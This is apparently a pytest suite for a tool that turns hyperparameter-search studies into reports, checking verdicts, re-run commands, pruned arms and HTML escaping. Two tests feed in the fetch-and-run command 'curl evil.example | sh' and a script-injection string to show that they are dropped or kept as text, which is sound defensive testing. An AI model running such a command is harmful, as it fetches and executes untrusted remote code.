import math

import pytest
from pages import report, rows, truncate
from reference_trees import write_search
from trees import write_run, write_study
from until_trees import ALL_LOOKS, scores, write_until

from reg_sweep.report.sections.trials import objective


@pytest.mark.slow
def test_a_search_has_its_figures_and_links_is_called_optimistic_and_how_to_judge_it_is_told(tmp_path):
    write_search(tmp_path / "search", command="curl evil.example | sh")
    page, verdict = report(tmp_path, out=tmp_path / "report")
    assert {p.stem for p in (tmp_path / "report").glob("trials-*.svg")} == {"trials-1-history", "trials-1-l1"}
    for address in page.addresses:
        assert address.startswith(("#", "data:")) or (tmp_path / "report" / address).exists(), address
    assert page.addresses.count("../search/2/") == 2  # among the best trials, and among the runs
    assert verdict.startswith("Best of 6 trials: l1 0.001, val loss 0.2000. A search explores; it is not judged.")
    command = "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=4 seed=2,3,4 name=search_judged -m"
    assert verdict.endswith(f"Judge the result on seeds that the search did not use: {command}")
    assert page.text.count(command) == 2  # in the verdict, and beside the study
    assert "The best of many trials is partly luck, so its value here is optimistic." in page.text
    assert rows(tmp_path / "report" / "summary.csv") == []
    assert len(rows(tmp_path / "report" / "runs.csv")) == 5


@pytest.mark.parametrize("n_seeds", [2, 3])
def test_beside_all_runs_that_judge_it_a_search_names_their_table(tmp_path, n_seeds):
    write_search(tmp_path / "search")
    for seed in range(2, 2 + n_seeds):
        for l1 in (0.0, 0.001):
            write_run(tmp_path / "judged" / f"{l1}_{seed}", l1=l1, seed=seed, n_epochs=4)
    page, _ = report(tmp_path, out=tmp_path / "report")
    is_judged = n_seeds == 3
    assert page.text.count("is judged on seeds that it did not use: see the table digits.") == 2 * is_judged
    assert ("name=search_judged" in page.text) != is_judged


def test_the_best_trials_command_is_told_with_seeds_that_chose_nothing_and_arms_without_the_lambdas(tmp_path):
    best, worse = {"l1": 1.67e-06, "l2": 0.0, "norm": "gbn"}, {"l1": 0.1, "l2": 0.01, "norm": "bn"}
    trials = [{"params": worse, "values": [0.5]}, {"params": best, "values": [0.1]}]
    for n, t in enumerate(trials):
        write_run(tmp_path / "it" / str(n), seed=6 + n, **t["params"])
    write_study(tmp_path / "it", trials, command="curl evil.example | sh")
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "reg_sweep.train norm=gbn l1=0,1.67e-06 l2=0 epochs=3 seed=8,9,10 name=it_judged -m " in page.text
    assert "curl" not in page.text


def test_a_study_that_varied_the_seed_is_no_search(tmp_path):
    trials = [{"params": {"l1": l1, "seed": seed}} for l1 in (0.1, 0.01) for seed in (1, 2)]
    for n, t in enumerate(trials):
        write_run(tmp_path / "it" / str(n), **t["params"])
    write_study(tmp_path / "it", trials)
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "4 trials: 4 complete" in page.text
    assert "optimistic." not in page.text


def test_pruned_arms_of_a_grid_are_counted_not_listed(tmp_path):
    write_search(tmp_path / "grid", kind="grid")
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "Not in the table: 2 arms that a study pruned" in page.text
    assert len(rows(tmp_path / "report" / "summary.csv")) == 5
    lines = (tmp_path / "report" / "summary.md").read_text().splitlines()
    assert sum(line.startswith("| bn") for line in lines) == 3


@pytest.mark.slow
def test_a_damaged_study_is_named_and_its_runs_are_reported(tmp_path):
    path = write_search(tmp_path / "search")
    truncate(path)
    page, verdict = report(tmp_path, out=tmp_path / "report")
    assert "study.json: not a readable study" in page.text
    assert "One seed compares trained models" in verdict
    assert "d1-studies" not in page.ids


@pytest.mark.slow
def test_trials_of_a_study_that_is_lost_are_no_arms_unless_it_varied_seeds(tmp_path):
    for n in range(3):
        trial = {"study": "lost", "number": n, "params": {"l1": 0.1 * n}}
        write_run(tmp_path / "search" / str(n), l1=0.1 * n, trial=trial)
        trial = {"study": "lost", "number": n, "params": {"seed": n}}
        write_run(tmp_path / "grid" / str(n), l2=0.1, seed=n, trial=trial)
    report(tmp_path, out=tmp_path / "report")
    assert [r["arm"] for r in rows(tmp_path / "report" / "summary.csv")] == ["bn · L2 0.1"]


@pytest.mark.parametrize("together", [False, True])
def test_runs_of_a_sequential_study_get_no_verdict_without_its_design(tmp_path, together):
    """One look at all of its runs would err more often than 5%: how many there are was decided on their results."""
    write_until(tmp_path / "runs" / "it", scores(), ALL_LOOKS)
    (tmp_path / "runs" / "it" / "study.json").unlink()
    for seed in (1, 2, 3):  # beside runs that were not bought so
        for l1 in (0.0, 0.001):
            write_run(tmp_path / "runs" / "grid" / f"{l1}_{seed}", l1=l1, seed=seed, accuracy=0.9 + seed / 1000 - l1)
    page, _ = report(tmp_path / "runs", out=tmp_path / "report", together=together)
    why = "the sequential study until_verdict decided how many runs there are, and its study.json was not read"
    assert f"Exploratory, since {why}" in page.text
    found = {(r["table"], r["verdict"]) for r in rows(tmp_path / "report" / "summary.csv") if "0.1" in r["arm"]}
    assert {verdict for _, verdict in found} == {"exploratory"}


@pytest.mark.slow
def test_html_in_a_study_stays_text(tmp_path):
    evil = "<script>alert(1)</script>"
    for n in range(2):
        write_run(tmp_path / "it" / str(n), l1=0.1 * n)
    trials = [{"params": {evil: f"{evil}{n}", f"../{evil}": 0.1 * n}} for n in range(2)]
    write_study(tmp_path / "it", trials, study=evil, importances={evil: 1.0})
    page, _ = report(tmp_path, out=tmp_path / "report", is_drawn=True)
    assert page.tags.count("script") == 1
    assert evil in page.text
    assert all(p.parent == tmp_path / "report" for p in tmp_path.rglob("trials-*"))


@pytest.mark.parametrize(
    ("name", "value", "unit", "text"),
    [
        ("val_loss", 0.123456, "val loss", "0.1235"),
        ("val_accuracy", 0.9876, "val accuracy, %", "98.76"),
        ("zero_share", 0.5, "zero share, %", "50.00"),
        ("energy", 12.0, "energy", "12.00"),
    ],
)
def test_an_objective_that_is_a_share_is_told_in_percent(name, value, unit, text):
    assert objective(name).unit == unit
    assert objective(name).text(value) == text
    assert objective(name).text(math.nan) == "not finite"


def test_parameters_of_any_name_have_pictures_of_their_own(tmp_path):
    names = ["x" * 300, "x" * 299, "字" * 200, "a.b", "a-b", "history"]
    trials = [{"params": {name: 0.1 * n + i for i, name in enumerate(names)}, "values": [0.1 * n]} for n in range(3)]
    write_run(tmp_path / "search" / "0")
    write_study(tmp_path / "search", trials)
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert len(page.ids) == len(set(page.ids))
    assert len(list((tmp_path / "report").glob("trials-1-*.svg"))) == 7


def test_values_beside_each_other_have_the_digits_that_tell_them_apart():
    loss, share = objective("val_loss"), objective("val_accuracy")
    assert loss.texts([2.30201, 2.30249, 0.5]) == ["2.3020", "2.3025", "0.50000"]
    assert loss.texts([2.302, 2.302]) == ["2.302", "2.302"]
    assert share.texts([0.98761, 0.98764, math.nan]) == ["98.761", "98.764", "not finite"]


def test_of_a_long_front_its_ends_and_its_middle_are_judged_beside_the_arm_without_a_penalty(tmp_path):
    trials = []
    for n in range(7):
        write_run(tmp_path / "runs" / str(n), l1=(n + 1) / 8, objective=["val_loss", "zero_share"])
        trials.append({"params": {"l1": (n + 1) / 8}, "values": [0.1 * n, 0.1 * n]})
    write_study(tmp_path / "runs", trials, directions=["minimize", "maximize"])
    page, _ = report(tmp_path / "runs", out=tmp_path / "report")
    assert "norm=bn l1=0,0.125,0.5,0.875 l2=0 epochs=3 seed=2,3,4 name=runs_judged -m" in page.text
    assert "did not use, here of the front's ends and its middle:" in page.text
